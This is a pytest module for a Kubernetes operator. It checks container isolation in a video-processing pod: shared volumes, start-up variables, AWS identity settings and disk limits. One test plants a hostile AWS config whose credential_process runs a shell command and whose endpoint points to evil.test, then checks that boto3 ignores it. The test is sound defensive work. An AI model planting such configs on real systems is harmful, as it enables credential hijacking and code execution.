"""What crosses between the containers of a pod: files by volumes in one direction, and nothing else."""

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from tests.operator.builders.manifests import containers, context, env, pod

from talkingvideo_api.names import Stage

READ_AT_START = ("HOME", "TMPDIR")
"""Variables that name folders in which libraries look for configuration, caches and code."""


def mounts(container: Any) -> dict[str, Any]:
    return {mount["name"]: mount for mount in container["volumeMounts"]}


def values(container: Any) -> dict[str, str]:
    return {name: entry["value"] for name, entry in env(container).items() if "value" in entry}


def test_a_container_sees_what_another_wrote_only_in_two_folders_and_read_only() -> None:
    made = list(containers(pod(context({"weightsClaim": "models"}))).values())
    for place, writer in enumerate(made):
        writable = {name for name, mount in mounts(writer).items() if not mount["readOnly"]}
        for reader in made[:place] + made[place + 1 :]:
            shared = writable & mounts(reader).keys()
            assert shared <= {"inputs", "prepared"}
            assert all(mounts(reader)[name]["readOnly"] for name in shared)
    writers = {
        name: [c["name"] for c in made if not mounts(c).get(name, {"readOnly": True})["readOnly"]]
        for name in ("inputs", "prepared")
    }
    assert writers == {"inputs": ["fetch"], "prepared": ["process"]}


@pytest.mark.parametrize("stage", list(Stage))
def test_what_a_container_reads_at_its_start_is_in_volumes_of_its_own(stage: Stage) -> None:
    made = containers(pod(context(), stage, 0))
    for container in made.values():
        for variable in READ_AT_START:
            (volume,) = (m["name"] for m in container["volumeMounts"] if m["mountPath"] == values(container)[variable])
            assert [c["name"] for c in made.values() if volume in mounts(c)] == [container["name"]]
        assert values(container)["PYTHONNOUSERSITE"] == "1"


@pytest.mark.parametrize("stage", list(Stage))
def test_no_container_obeys_a_file_of_an_aws_configuration(stage: Stage, tmp_path: Path) -> None:
    """A compromised process writes ``.aws/config`` wherever it can; boto3 in publish runs no credential_process of it."""
    proof, planted = tmp_path / "ran", tmp_path / ".aws"
    planted.mkdir()
    config = f"[default]\ncredential_process = /bin/sh -c 'touch {proof}; exit 1'\nendpoint_url = https://evil.test\n"
    for name in ("config", "credentials"):
        (planted / name).write_text(config)
    script = "import boto3; s = boto3.Session(); s.get_credentials(); print(s.client('s3', region_name='x').meta.endpoint_url)"
    for container in containers(pod(context(), stage, 0)).values():
        given = {name: value for name, value in values(container).items() if name.startswith(("AWS", "PYTHON"))}
        done = subprocess.run(
            [sys.executable, "-c", script],
            env={**given, "HOME": str(tmp_path)},
            capture_output=True,
            text=True,
            check=True,
        )
        assert "evil" not in done.stdout
    assert not proof.exists()


def test_a_service_accounts_identity_still_reaches_the_containers_that_have_it() -> None:
    """IRSA and EKS Pod Identity by variables that the cluster sets, other platforms by a metadata service."""
    store = {"default": {"s3": {"bucket": "media", "serviceAccountName": "writer"}}}
    made = containers(pod(context({"stores": store})))
    disabled = {name: "AWS_EC2_METADATA_DISABLED" in env(container) for name, container in made.items()}
    assert disabled == {"fetch": False, "process": True, "publish": False}


@pytest.mark.parametrize("stage", list(Stage))
def test_a_pods_disk_is_limited_by_the_sizes_of_its_volumes_and_logs(stage: Stage) -> None:
    made = pod(context(), stage, 0)
    limits = [volume["emptyDir"]["sizeLimit"] for volume in made["volumes"] if "emptyDir" in volume]
    sizes = {"10Gi": 10 << 30, "256Mi": 256 << 20}
    expected = sum(sizes[limit] for limit in limits) + (256 << 20)
    for container in containers(made).values():
        resources = container["resources"]
        assert int(resources["limits"]["ephemeral-storage"]) == expected
        assert int(resources["requests"]["ephemeral-storage"]) == 1 << 30
        assert resources["limits"]["memory"]


def test_resources_that_name_the_disk_themselves_are_kept() -> None:
    own = {"requests": {"cpu": "1"}, "limits": {"ephemeral-storage": "2Gi"}}
    (container,) = pod(context({"render": {"resources": own}}), Stage.RENDER, 0)["containers"]
    assert container["resources"]["limits"]["ephemeral-storage"] == "2Gi"
    assert "ephemeral-storage" not in container["resources"]["requests"]
